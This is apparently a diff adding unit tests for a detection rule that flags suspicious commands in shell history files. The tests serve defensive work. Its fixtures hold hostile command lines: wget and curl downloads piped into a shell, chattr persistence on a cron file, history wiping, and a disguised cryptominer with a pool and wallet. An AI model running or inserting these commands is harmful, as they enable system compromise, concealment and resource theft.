@@ -1,0 +1,50 @@
+import { historyFacts } from '../../../test/helpers/log-users';
+import { testRule } from '../../../test/helpers/rule-tester';
+import rule from './history-suspicious-commands';
+
+testRule(rule, {
+  valid: [
+    {
+      name: 'everyday administration',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': 'apt update\napt install -y nginx\nsystemctl restart nginx\ncurl -s https://example.com/health\nwget https://example.com/pkg.deb\ngrep xmrig /var/log/syslog\nhistory | tail\ntail -f /var/log/nginx/access.log\n',
+          '/home/deploy/.python_history': 'import requests\nrequests.get("https://example.com")\n',
+          '/home/deploy/.mysql_history': 'show databases;\nselect * from users limit 10;\n',
+        }),
+      },
+    },
+  ],
+  invalid: [
+    {
+      name: 'seed 002 dropper, wiping and chattr grouped per pattern',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': [
+            '#1763521250',
+            'wget -qO- http://malicious-site.com/m.sh | bash',
+            'curl -fsSL http://45.67.89.10/x.sh | sh',
+            'chattr +i /etc/cron.d/sysupdate',
+            'history -c',
+            'export HISTFILE=/dev/null; unset HISTFILE',
+            `echo ${'\u001b[2J'.repeat(3)}${'A'.repeat(3000)}`,
+          ].join('\n'),
+        }),
+      },
+      expect: [
+        { severity: 'critical', user: 'root', path: '/root/.bash_history', title: /downloads a script and pipes it into a shell \(2×\)/, evidence: /\.bash_history:2 \[2025-11-19T03:00:50\.000Z\]: wget -qO- http:\/\/malicious-site\.com\/m\.sh \| bash/ },
+        { severity: 'high', path: '/root/.bash_history', title: /wipes or disables shell history \(2×\)/ },
+        { severity: 'medium', title: /immutable/ },
+      ],
+    },
+    {
+      name: 'zsh extended history with a renamed miner',
+      facts: { histories: historyFacts({ '/home/deploy/.zsh_history': ': 1763521250:0;./sshd -o pool.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1\n' }) },
+      expect: [
+        { severity: 'critical', user: 'deploy', path: '/home/deploy/.zsh_history', title: /donation/ },
+        { severity: 'critical', title: /Pool address/ },
+        { severity: 'critical', title: /Monero or Ethereum wallet/ },
+      ],
+    },
+  ],
+});
